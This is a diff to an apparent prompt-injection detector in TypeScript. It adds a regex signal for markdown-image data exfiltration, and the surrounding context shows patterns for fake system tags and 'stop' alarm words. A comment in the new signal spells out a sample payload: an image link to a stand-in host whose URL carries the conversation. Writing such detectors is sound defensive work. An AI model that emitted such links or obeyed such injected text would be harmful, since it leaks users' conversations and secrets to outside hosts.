@@ -122,6 +122,15 @@ export const DELIMITER_SIGNALS: readonly Signal[] = [
     regex: /<\/?(?:system|system_prompt|sys|instructions|admin)>/gi,
   },
   {
+    // A markdown image whose address carries a placeholder for the conversation or a secret
+    // ("![a](https://x.example/log?data={conversation})"): rendering it sends the data away.
+    id: "markdown_exfil",
+    requires: /!\[/,
+    label: "instruction_override",
+    weight: 0.6,
+    regex: /!\[[^\]\n]{0,60}\]\(\s*https?:\/\/[^)\s]{1,200}?[?&=/](?:\{|\$\{|\[|%7B|<)[^)\s]{0,60}\)/gi,
+  },
+  {
     // "ATTENTION - STOP - I urgently need…", "ACHTUNG: STOPP!": an alarm that breaks off the task in hand.
     id: "alarm_stop",
     words: ["stop", "stopp", "alto", "halt", "arrete"],
